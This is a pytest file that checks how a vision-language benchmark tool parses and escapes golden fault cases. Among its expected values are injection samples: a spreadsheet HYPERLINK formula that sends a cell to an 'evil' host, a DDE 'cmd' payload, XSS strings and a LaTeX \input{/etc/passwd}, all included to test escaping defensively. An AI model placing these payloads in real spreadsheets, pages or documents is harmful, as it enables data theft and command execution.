"""Every file in `golden/cases`, which a review found read wrong, and the value it must give.

H01 to H15 are kinds of faults of benchmarks, models and servers; D4 to D13 are faults of the
program. A file without a line in CASES fails `test_every_case_has_a_line`.
"""

import json

import pyarrow.parquet as pq
import pytest
import tiny_hf
from datasets import Dataset
from fake_server import FakeServer, Raw, Status, hasty
from test_adapters_hard import num2words, smolvlm_module
from test_adapters_hard import rows as two_options

from clear_nb.adapters import HFAdapter
from clear_nb.bench import limit_of_cut
from clear_nb.cli import rows_of_all
from clear_nb.core import ROOT
from clear_nb.escape import csv_cell, markdown_cell, terminal_line
from clear_nb.images import open_image
from clear_nb.judge import LLMJudge
from clear_nb.rows import BenchmarkRow, Reject, read_datasets, read_tsv
from clear_nb.scoring import answer_text, protocol_of, read_option, score_reply
from clear_nb.server import Refused, read_completion

FOLDER = ROOT / 'tests' / 'golden' / 'cases'


def read(path):
    """The object in a JSON file."""
    return json.loads(path.read_text(encoding='utf-8'))


# ----------------------------------------------------------------- readers: file -> value


def value(row, fields):
    """What is read of a row: one field or several, or why it is left out."""
    if isinstance(row, Reject):
        return row.index, row.reason
    got = [row.pixels().shape if f == 'shape' else getattr(row, f) for f in fields]
    return got[0] if len(got) == 1 else tuple(got)


def table(*fields):
    """A reader of a file with tab-separated rows."""
    return lambda path, _: [value(row, fields) for row in read_tsv(path)]


def dataset(*fields, **columns):
    """A reader of a parquet file whose columns are named."""
    named = dict(image='image', question='question', answer='answer') | columns

    def reader(path, _):
        rows = read_datasets(Dataset(pq.read_table(path)), named, 'MMStar')
        return [value(row, fields) for row in rows]

    return reader


def letters(path, _):
    """Replies that are not read as wanted."""
    return [
        r['reply']
        for r in read(path)
        if read_option(answer_text(r['reply']), r['options']) != r['wanted']
    ]


def yes_or_no(path, _):
    """Replies that are not worth what is wanted."""
    return [
        r['reply']
        for r in read(path)
        if score_reply(BenchmarkRow('POPE', '0', '?', r['answer']), r['reply'], 'yesno').value
        != r['wanted']
    ]


def protocol(path, _):
    """The protocol of a file, and its answers."""
    rows = list(read_tsv(path))
    return protocol_of(path.stem, rows), [r.answer for r in rows]


def letters_in_question(path, _):
    """The value of each reply to its row of the data set beside the file."""
    rows = dataset('options', 'answer')(path.parent / 'mmstar_like.parquet', _)
    asked = [BenchmarkRow('MMStar', '0', '?', answer, options=o) for o, answer in rows]
    return [score_reply(row, said).value for row, said in zip(asked, read(path), strict=True)]


def completion(path, _):
    """The text of a server's reply that counts, the limit of a cut one, and its cause."""
    text, about = read_completion(read(path))
    return answer_text(text), limit_of_cut(json.dumps(about)), about.get('cause', '')


def judged(path, _):
    """What becomes of two replies of a judge, neither of which is a grade."""
    said, question = read(path), BenchmarkRow('MM-Vet', '0', 'What?', 'van <AND> blue')
    with FakeServer(default=Raw(json.dumps(said['reasoning_cut']))) as server:
        cut = LLMJudge('toy', server.url)(question, 'a blue van')
    with FakeServer(default=Status(400, said['new_openai_status_400'])) as server:
        with pytest.raises(Refused) as e:
            LLMJudge('toy', server.url)(question, 'a blue van')
        asked = len(server.requests)
    return type(cut).__name__, asked, 'max_tokens=null' in str(e.value)


def missing_package(path, tmp_path):
    """What is said when the package of the note is not there."""
    needed, folder = read(path)['needs'], tiny_hf.smolvlm(tmp_path / 'm')
    with pytest.MonkeyPatch.context() as patched, pytest.raises(ValueError) as e:
        patched.setattr(smolvlm_module, needed, None)
        HFAdapter(folder, device='cpu')
    return needed in str(e.value)


def families(path, tmp_path):
    """Kinds of the replies of each model of the note."""
    kinds = {}
    for name in read(path)['models']:
        folder = getattr(tiny_hf, name.lower())(tmp_path / name)
        replies = HFAdapter(folder, max_new_tokens=2, device='cpu')(two_options()[:2])
        kinds[name] = [r.kind for r in replies]
    return kinds


def sentence(path, _):
    """The sentence about a file that is no picture, without its path."""
    with pytest.raises(ValueError) as e:
        open_image(path)
    return str(e.value).replace(str(path), 'FILE').partition(';')[0]


def shown(escape):
    """A reader of the categories of a file as `escape` shows them."""
    return lambda path, _: list(dict.fromkeys(escape(r.category) for r in read_tsv(path)))


def detail(path, _):
    """What the terminal gets to see of the rows that are left out."""
    return [terminal_line(r.detail) for r in read_tsv(path) if isinstance(r, Reject)]


# ----------------------------------------------------------------- what must come out

COLOURS = dict(A='red', B='blue', C='green', D='black')
LISTED = 'What colour is the car?\nOptions: A: red, B: blue, C: green, D: black'
ARROW = 'Which way does the arrow point?'
WAYS = dict(A='Left', B='Right', C='Up')
SIDES = dict(A='cat', B='dog')
LINK = '\'=HYPERLINK("http://evil/?"&A1,"click")'
HARMLESS = (
    r'a\\nb \| c \<script>alert(1)\</script> ![x]\(http\://evil/x.png) \\input{/etc/passwd} '
    r'\$x^2\$'
)
TAG = '<img src=x onerror=alert(1)>\n| evil | row |'
SILENT = "the reply is empty (finish reason 'stop'); a hidden thought of 19 characters came before"

CASES = [  # file, reader, value
    ('bench/H01_smolvlm/note.json', missing_package, True),
    ('H02_truncated/replies.json', letters, []),
    ('H02_truncated/server_reply.json', completion, ('', '?', '')),
    ('H03_yes_no/replies.json', yes_or_no, []),
    ('bench/H03_yes_no/POPE.tsv', protocol, ('yesno', ['Yes', 'No', 'Yes', 'No'])),
    (
        'bench/H04_options_in_question/mmstar_like.parquet',
        dataset('index', 'question', 'options', 'answer', 'prompt', index='index'),
        [(str(k), 'What colour is the car?', COLOURS, 'B', LISTED) for k in range(4)],
    ),
    (
        'bench/H04_options_in_question/realworldqa_like.parquet',
        dataset('question', 'options', 'answer', 'prompt'),
        [
            (ARROW, WAYS, 'B', f'{ARROW}\nA. Left\nB. Right\nC. Up\nAnswer with the letter only.'),
            ('How many lanes are there?\nAnswer with one number.', {}, '2', ''),
        ],
    ),
    ('bench/H04_options_in_question/replies.json', letters_in_question, [1.0] * 4),
    (
        'bench/H05_options_as_text/mmmu_like.parquet',
        dataset('options', 'answer', index='id', image='image_1', options='options'),
        [(dict(A='2 $', B='4 $', C='6 $', D='8 $'), 'B')],
    ),
    ('bench/H06_judge/MM-Vet.tsv', protocol, ('mmvet', ['van <AND> blue'] * 3)),
    ('bench/H06_judge/judge_replies.json', judged, ('Unparsable', 1, True)),
    (
        'bench/H07_missing_roll/MMBench_DEV_EN.tsv',
        table('index'),
        ['0', '1000000', '2000000', '3000000']
        + [(k, 'missing roll') for k in ('1', '1000001', '3000001')]
        + ['2', '1000002', '2000002', '3000002'],
    ),
    (
        'bench/H07_missing_roll/float_index/MMBench_DEV_EN.tsv',
        table('index', 'group'),
        [(str(k * 1_000_000 + q), str(q)) for q in range(3) for k in range(4)],
    ),
    ('H08_cjk/replies.json', letters, []),
    (
        'bench/H09_open_quote/MMStar.tsv',
        table('index'),
        ['0', ('1', 'malformed row'), *'234567'],
    ),
    (
        'bench/H10_own_image_token/note.json',
        families,
        {name: ['answer'] * 2 for name in ('Blip2', 'InstructBlip', 'Florence2')},
    ),
    ('bench/H11_bare_answer/MMStar.tsv', table('answer'), ['B'] * 4),
    ('H12_null_content/server_reply.json', completion, ('', None, SILENT)),
    ('bench/H13_image_token_in_question/MMStar.tsv', table('question'), ['What is it?'] * 2),
    ('bench/H14_picture_column/data_uri.tsv', table('shape'), [(80, 96, 3)]),
    ('bench/H14_picture_column/list.tsv', table('index'), [('0', 'several pictures')]),
    (
        'bench/H14_picture_column/one_in_a_list.parquet',
        dataset('shape', image='images'),
        [(80, 96, 3)],
    ),
    ('bench/H15_nan/MMStar.tsv', table('hint', 'options'), [('', SIDES)]),
    ('faults/circled.tsv', table('index'), ['0', ('①', 'unusable index'), '2', '3']),
    ('faults/superscript.tsv', table('index'), ['0', ('²', 'unusable index'), '2', '3']),
    ('faults/evil.png', sentence, 'open_image: FILE is not an image in a known format'),
    (
        'faults/formula_cat.tsv',
        shown(csv_cell),
        [LINK, "'@SUM(1+1)*cmd|'/c calc'!A0", "'+1+1"],
    ),
    ('faults/inject_cat.tsv', shown(markdown_cell), [HARMLESS]),
    ('faults/inject_index.tsv', detail, [f'{TAG!r} holds characters that cannot be shown']),
]


@pytest.mark.parametrize('file, reader, wanted', CASES, ids=[file for file, _, _ in CASES])
def test_case(file, reader, wanted, tmp_path, hasty, monkeypatch):
    """The file gives this value."""
    monkeypatch.setenv('OPENAI_API_KEY', 'x')
    assert reader(FOLDER / file, tmp_path) == wanted


def test_every_case_has_a_line():
    """No file of the folder is left out, and none is read twice."""
    files = sorted(p.relative_to(FOLDER).as_posix() for p in FOLDER.rglob('*') if p.is_file())
    assert sorted(file for file, _, _ in CASES) == files


# ----------------------------------------------------------------- what is said about a file


def test_missing_rolls_are_named(capsys):
    """H07: the note names the missing row when the file is opened, on the terminal too."""
    path = FOLDER / 'bench' / 'H07_missing_roll' / 'MMBench_DEV_EN.tsv'
    [note] = read_tsv(path).notes
    assert '1 of 3 questions lack a roll' in note and 'rows 2000001 are not in the file' in note
    rows_of_all([path], None)
    assert 'rows 2000001 are not in the file' in capsys.readouterr().err
    assert read_tsv(path.parent / 'float_index' / path.name).notes == []


def test_a_lost_row_names_what_it_took():
    """H09: the quote that never closes took six lines."""
    [lost] = [r for r in read_tsv(FOLDER / 'bench/H09_open_quote/MMStar.tsv') if type(r) is Reject]
    assert lost.row == 2 and 'it took 6 more lines' in lost.detail


def test_two_pictures_are_counted():
    """H14: the reason names how many pictures there are."""
    [several] = read_tsv(FOLDER / 'bench' / 'H14_picture_column' / 'list.tsv')
    assert several.detail == '2 pictures in one row'
